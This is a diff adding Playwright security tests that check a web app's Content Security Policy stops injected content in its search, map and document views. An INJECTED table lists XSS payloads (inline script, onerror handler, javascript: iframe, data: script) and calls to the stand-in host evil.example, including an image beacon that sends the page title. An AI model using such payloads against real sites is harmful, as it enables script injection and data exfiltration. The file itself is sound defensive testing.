@@ -37,3 +37,48 @@ def test_a_hostile_address_is_only_a_question(visit: Visit) -> None:
     expect(page.locator(".chip")).to_contain_text("<b>")
     expect(page.get_by_role("alert")).to_contain_text("there is no index '<script>'")
     assert page.locator("main img, main script, main b").count() == 0
+
+
+INJECTED = {  # what a page without its policy would run, load or send, if text ever became markup
+    "inline": "const s = document.createElement('script'); s.textContent = 'window.harmed = 1'; "
+    "document.body.append(s)",
+    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.harmed = 1\">')",
+    "frame": "const f = document.createElement('iframe'); f.src = 'javascript:parent.harmed = 1'; "
+    "document.body.append(f)",
+    "eval": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.harmed=1'; "
+    "document.body.append(s)",
+    "picture": "new Image().src = 'https://evil.example/' + document.title",
+    "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"background: url(https://evil.example)\">')",
+    "sheet": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/a.css'; "
+    "document.head.append(l)",
+    "fetch": "fetch('https://evil.example').catch(() => 0)",
+    "form": "document.body.insertAdjacentHTML('beforeend', '<form action=https://evil.example><button>'); "
+    "document.querySelector('form[action]').requestSubmit()",
+    "base": "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
+}
+
+
+@pytest.mark.parametrize("name", INJECTED)
+def test_what_got_into_the_page_all_the_same_runs_loads_and_sends_nothing(visit: Visit, name: str) -> None:
+    visit.expected += ["error: ", "warning: ", "request: https://evil.example"]  # what its policy forbids
+    page = visit.go("#/search?index=docs")
+    expect(page.get_by_role("searchbox")).to_be_focused()
+    page.evaluate("addEventListener('securitypolicyviolation', (event) => (window.refused = event.violatedDirective))")
+    page.evaluate(f"() => {{ {INJECTED[name]} }}")
+    page.wait_for_function("window.refused")
+    assert page.evaluate("window.harmed") is None
+    assert page.url.startswith(visit.url)
+
+
+def test_hostile_titles_are_text_on_the_map_and_in_the_source(visit: Visit, asker: Asker) -> None:
+    assert asker.post("/v1/map", {"index": "hostile"}).status == 200
+    page = visit.go("#/map?index=hostile")
+    expect(page.locator(".map-list li").first).to_be_visible(timeout=60_000)
+    page.get_by_label("Colour by").select_option("document")
+    expect(page.locator(".map-groups")).to_contain_text("<script>")
+    assert page.locator("main").locator("script, img, iframe, a[href^='javascript']").count() == 0
+    for name in ("script", "link"):
+        page = visit.go(f"#/document?index=hostile&id=hostile%2F{name}")
+        expect(page.locator(".source-text").first).to_contain_text("A ship in the storm")
+        assert page.locator("main").locator("script, img, iframe, a[href^='javascript']").count() == 0
+    assert "harmed" not in page.title()
